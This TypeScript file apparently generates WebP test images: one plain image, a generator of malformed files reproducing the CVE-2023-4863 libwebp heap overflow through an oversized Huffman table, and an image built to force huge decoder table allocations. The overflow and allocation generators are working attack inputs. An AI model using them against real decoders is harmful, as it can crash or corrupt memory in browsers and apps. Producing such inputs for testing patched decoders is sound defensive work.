import { seeded } from '../random';

/** Lossless WebP files (RFC 9649, section 3) with prefix codes that no encoder writes. */

/** The lengths that one prefix code gives to its symbols, 0 to 15 bits; 0: no code. */
type Lengths = readonly number[];

/** Symbols of a group's five codes: green with copy lengths, red, blue, alpha, distances. */
const ALPHABETS = { green: 280, color: 256, distance: 40 } as const;

/** The order in which the code for lengths has its own lengths (RFC 9649, 3.7.2.1.2). */
const LENGTH_ORDER = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];

class Bits {
  readonly #bytes: number[] = [];
  #length = 0;

  /** The lowest `count` bits of a number, lowest first. */
  put(value: number, count: number): void {
    for (let bit = 0; bit < count; bit++, this.#length++) {
      const at = this.#length >> 3;
      this.#bytes[at] = (this.#bytes[at] ?? 0) | (((value >>> bit) & 1) << (this.#length & 7));
    }
  }

  /** A file with a chunk of these bytes. */
  file(): Buffer {
    const size = this.#bytes.length + (this.#bytes.length & 1);
    const file = Buffer.alloc(20 + size);
    file.write('RIFF', 0, 'latin1');
    file.writeUInt32LE(12 + size, 4);
    file.write('WEBPVP8L', 8, 'latin1');
    file.writeUInt32LE(this.#bytes.length, 16);
    file.set(this.#bytes, 20);
    return file;
  }
}

/** The start of the codes, without transforms, color cache, and meta prefix image. */
function begin(width: number, height: number): Bits {
  const bits = new Bits();
  bits.put(0x2f, 8);
  bits.put(width - 1, 14);
  bits.put(height - 1, 14);
  bits.put(1, 1);
  bits.put(0, 3);
  return bits;
}

/** A 4-bit number from its highest bit on, like codes are written. */
function backwards(value: number): number {
  return ((value & 1) << 3) | ((value & 2) << 1) | ((value & 4) >> 1) | ((value & 8) >> 3);
}

/** A code with its lengths written one by one, 4 bits each. */
function putCode(bits: Bits, lengths: Lengths): void {
  bits.put(0, 1);
  bits.put(LENGTH_ORDER.length - 4, 4);
  for (const length of LENGTH_ORDER) bits.put(length < 16 ? 4 : 0, 3);
  bits.put(1, 1);
  bits.put(4, 3);
  bits.put(lengths.length - 2, 10);
  for (const length of lengths) bits.put(backwards(length), 4);
}

/** A code with one symbol, which takes no bits. */
function putOneSymbol(bits: Bits, symbol: 0 | 1): void {
  bits.put(1, 1);
  bits.put(0, 1);
  bits.put(0, 1);
  bits.put(symbol, 1);
}

/** Lengths from the numbers of codes with 1, 2, 3… bits. */
function lengthsOf(counts: readonly number[], symbols: number): number[] {
  const lengths = counts.flatMap((count, index) => Array<number>(count).fill(index + 1));
  return [...lengths, ...Array<number>(symbols - lengths.length).fill(0)];
}

/** Complete codes whose 8-bit and second-level tables are as large as possible. */
const MAX_TABLES = {
  green: lengthsOf([1, 1, 0, 0, 0, 0, 0, 0, 79, 57, 57, 17, 65, 1, 2], ALPHABETS.green),
  color: lengthsOf([1, 1, 0, 0, 0, 0, 0, 0, 103, 1, 65, 49, 33, 1, 2], ALPHABETS.color),
};
/** Entries of the largest table of a complete distance code. */
const DISTANCE_TABLE = 410;

/** Entries of the table, including second-level tables, that libwebp builds for a code of at most all bits. */
function tableSize(lengths: Lengths): number {
  const [ROOT, MAX] = [8, 15];
  const counts = Array.from({ length: MAX + 1 }, (_, length) => lengths.filter((other) => other === length).length);
  const left = (length: number) => counts[length] ?? 0;
  let size = 2 ** ROOT;
  /** The longest code of a second-level table that begins with this length. */
  const deepestFrom = (length: number) => {
    let deepest = length;
    for (let open = 2 ** (length - ROOT); deepest < MAX; deepest++, open *= 2) {
      open -= left(deepest);
      if (open <= 0) break;
    }
    return deepest;
  };
  // Start of the next code, as a part of all 2^15.
  let code = 0;
  for (let length = 1; length <= ROOT; length++) code += left(length) * 2 ** (MAX - length);
  let root = -1;
  for (let length = ROOT + 1; length <= MAX; length++) {
    for (; left(length) > 0; counts[length] = left(length) - 1) {
      if (code >> (MAX - ROOT) !== root) {
        root = code >> (MAX - ROOT);
        size += 2 ** (deepestFrom(length) - ROOT);
      }
      code += 2 ** (MAX - length);
    }
  }
  return size;
}

/** A code with unused bits, whose table is larger than that of any complete one. */
function overflowingCode(random: () => number): Lengths {
  for (;;) {
    const counts: number[] = [];
    let symbols: number = ALPHABETS.distance;
    let free = 1;
    for (let length = 1; length <= 15; length++) {
      const most = random() < 0.45 ? 0 : Math.min(symbols, Math.floor(free * 2 ** length));
      const count = Math.floor(random() ** 2 * (most + 1));
      counts.push(count);
      symbols -= count;
      free -= count / 2 ** length;
    }
    const lengths = lengthsOf(counts, ALPHABETS.distance);
    if (tableSize(lengths) > DISTANCE_TABLE) return lengths;
  }
}

/** A plain image with equal width and height, in a few bytes. */
export function plainWebp(side: number): Buffer {
  const bits = begin(side, side);
  bits.put(0, 3);
  for (let code = 0; code < 5; code++) putOneSymbol(bits, 1);
  return bits.file();
}

/**
 * Files like those of CVE-2023-4863: four codes with the largest tables, then one whose table is larger than the remaining space, which a decoder
 * notices only after writing it.
 */
export function* overflowingWebps(count: number, seed: number): Generator<Buffer> {
  const random = seeded(seed);
  const below = (end: number) => Math.floor(random() * end);
  for (let made = 0; made < count; made++) {
    const bits = begin(1 + below(128), 1 + below(128));
    bits.put(0, 3);
    for (const code of [MAX_TABLES.green, MAX_TABLES.color, MAX_TABLES.color, MAX_TABLES.color]) putCode(bits, code);
    putCode(bits, overflowingCode(random));
    // Enough bytes to change where the next file's memory is allocated.
    for (let left = below(3000); left > 0; left--) bits.put(below(256), 8);
    yield bits.file();
  }
}

/** A plain image of 1024 × 1024 pixels whose 4 × 4 blocks have 65,536 groups of codes, in 300 KB: decoders allocate a table of 12 KB for each. */
export function webpOfGroups(): Buffer {
  const [SIDE, BLOCK_BITS, CACHE_BITS] = [1024, 2, 11];
  const bits = begin(SIDE, SIDE);
  bits.put(0, 1);
  bits.put(1, 1);
  bits.put(CACHE_BITS, 4);
  bits.put(1, 1);
  bits.put(BLOCK_BITS - 2, 3);
  // The meta prefix image: green and red, 8 bits each, are a counter.
  bits.put(0, 1);
  const eight = Array<number>(256).fill(8);
  putCode(bits, eight);
  putCode(bits, eight);
  for (let code = 0; code < 3; code++) putOneSymbol(bits, 0);
  for (let group = 0; group < 65_536; group++) {
    for (const part of [group & 255, group >> 8]) {
      bits.put(backwards(part >> 4) | (backwards(part & 15) << 4), 8);
    }
  }
  for (let code = 0; code < 65_536 * 5; code++) putOneSymbol(bits, 1);
  return bits.file();
}
